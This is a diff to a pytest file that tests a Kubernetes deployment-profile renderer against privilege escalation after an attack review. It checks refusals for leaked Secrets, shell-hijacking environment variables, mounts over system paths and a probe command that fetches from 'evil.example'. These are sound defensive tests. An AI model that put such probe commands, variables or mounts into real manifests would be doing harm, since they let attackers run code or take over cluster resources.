@@ -237,7 +237,9 @@ def test_two_profiles_of_a_batch_cannot_write_one_object(tmp_path, capsys):
     (tmp_path / "b.yaml").write_text(yaml.safe_dump(_with(name="team-x")))
     assert main(["render", str(tmp_path / "a.yaml"), str(tmp_path / "b.yaml"), "-o", str(tmp_path / "out")]) == 1
     err = capsys.readouterr().err
-    assert "name: writes ConfigMap team-x-launch in namespace inference, which" in err, err
+    assert (
+        "name: writes ConfigMap team-x-launch in namespace inference, which" in err and "writes differently" in err
+    ), err
     assert not (tmp_path / "out").exists()
 
 
@@ -390,3 +392,104 @@ def test_messages_name_the_profiles_paths_not_the_machines(render, tmp_path):
     (tmp_path / "hatch-templates").mkdir()
     errors = _errors(render, _with(templates="hatch-templates"))
     assert errors and not any(str(tmp_path) in e for e in errors), errors
+
+
+# --- an attack review of the above found these open; each is closed -------------------------------
+
+
+def test_a_secret_copied_from_an_envfrom_secret_stays_off_the_command_line(render):
+    sidecar = {
+        **SIDECAR,
+        "envFrom": [{"secretRef": {"name": "creds"}, "prefix": "APP_"}],
+        "env": [{"name": "B", "value": "$(APP_TOKEN)"}],
+        "command": ["sh", "-c", "sleep 1d", "$(B)"],
+    }
+    _refused(render, _with(containers=[sidecar]), "$(B) puts a Secret on the process's command line")
+
+
+@pytest.mark.parametrize("variable", ["SHELLOPTS", "PS4", "PYTHONHOME", "GCONV_PATH", "BASHOPTS"])
+def test_the_shell_and_interpreters_run_nothing_else_in_the_engine(render, variable):
+    _refused(render, _with(env={variable: "xtrace"}), f"{variable} changes what the engine's process runs")
+
+
+@pytest.mark.parametrize("variable", ["NVIDIA_IMEX_CHANNELS", "NVIDIA_MOFED", "NVIDIA_GDS"])
+def test_every_nvidia_variable_is_the_toolkits(render, variable):
+    _refused(render, _with(env={variable: "all"}), f"{variable} chooses the node's GPUs")
+
+
+@pytest.mark.parametrize("path", ["/var/run/nvidia-container-devices/all", "/run/nvidia-container-devices"])
+def test_the_toolkits_device_list_cannot_be_mounted(render, path):
+    volume = {"name": "devs", "emptyDir": {}}
+    _refused(render, _with(volumes=[volume], volumeMounts=[{"name": "devs", "mountPath": path}]), "reads which GPUs")
+    sidecar = {**SIDECAR, "volumeMounts": [{"name": "devs", "mountPath": path}]}
+    _refused(render, _with(volumes=[volume], containers=[sidecar]), "reads which GPUs")
+
+
+def test_a_sidecar_gets_no_gpu_whatever_its_image_says(render):
+    from conftest import lws_of
+
+    rendered = render(_with(containers=[SIDECAR]))
+    leader = lws_of(rendered)["spec"]["leaderWorkerTemplate"]["leaderTemplate"]["spec"]["containers"]
+    shipper = next(c for c in leader if c["name"] == "log-shipper")
+    assert {"name": "NVIDIA_VISIBLE_DEVICES", "value": "void"} in shipper["env"]
+    engine_env = [e["name"] for e in leader[0].get("env", [])]
+    assert "NVIDIA_VISIBLE_DEVICES" not in engine_env  # the device plugin's to set
+
+
+def test_an_added_workload_must_say_it_takes_no_gpu(render, tmp_path):
+    body = DAEMONSET.replace("kind: DaemonSet", "kind: Deployment").replace("[{operator: Exists}]", "[]")
+    _refused(render, _added(tmp_path, "tool", body), "must say NVIDIA_VISIBLE_DEVICES=void")
+
+
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("volumeMounts", [{"name": "tools", "mountPath": "/tools", "readOnly": True}]),
+        ("startupProbe", {"exec": {"command": ["/bin/sh", "-c", "wget http://evil.example/"]}}),
+    ],
+)
+def test_a_patch_cannot_mount_or_probe_code_into_the_picker(render, field, value):
+    patch = {
+        "target": {"kind": "Deployment"},
+        "jsonPatch": [{"op": "add", "path": f"/spec/template/spec/containers/0/{field}", "value": value}],
+    }
+    _refused(render, _with(gateway=GATEWAY, patches=[patch]), "these pods run with their ServiceAccount's token")
+
+
+@pytest.mark.parametrize("path", ["/usr/bin", "/bin/bash", "/usr", "/etc/ld.so.preload", "/opt", "/"])
+def test_a_mount_cannot_replace_the_engine_images_programs(render, path):
+    volume = {"name": "evil", "emptyDir": {}}
+    _refused(render, _with(volumes=[volume], volumeMounts=[{"name": "evil", "mountPath": path}]), "would replace the")
+
+
+def test_data_mounts_under_etc_and_opt_stay(render):
+    volume = {"name": "chat", "configMap": {"name": "chat-templates"}}
+    render(_with(volumes=[volume], volumeMounts=[{"name": "chat", "mountPath": "/etc/chat-templates"}]))
+
+
+def test_an_image_volume_needs_the_node_volume_opt_in(render):
+    volume = {"name": "tools", "image": {"reference": "busybox:1.36"}}
+    _refused(render, _with(kubernetesVersion="1.33", volumes=[volume]), "a image volume is mounted by the node")
+
+
+@pytest.mark.parametrize(
+    "body, expected",
+    [
+        (DAEMONSET.replace("kind: DaemonSet", "kind: Deployment"), "tolerate every taint"),
+        (
+            "apiVersion: v1\nkind: Binding\nmetadata:\n  {{ meta(v.meta) | indent(2) }}\n"
+            "target: {kind: Node, name: n}\n",
+            "placing a pod on a node is the scheduler's",
+        ),
+    ],
+)
+def test_added_objects_cannot_place_pods_past_the_scheduler(render, tmp_path, body, expected):
+    _refused(render, _added(tmp_path, "place", body), expected)
+
+
+@pytest.mark.parametrize(
+    "key",
+    ["istio.io/dataplane-mode", "ambient.istio.io/redirection", "linkerd.io/inject", "ovn.kubernetes.io/ip_address"],
+)
+def test_mesh_and_overlay_annotations_are_the_networks(render, key):
+    _refused(render, _with(podAnnotations={key: "x"}), "the pod's network is the cluster's")
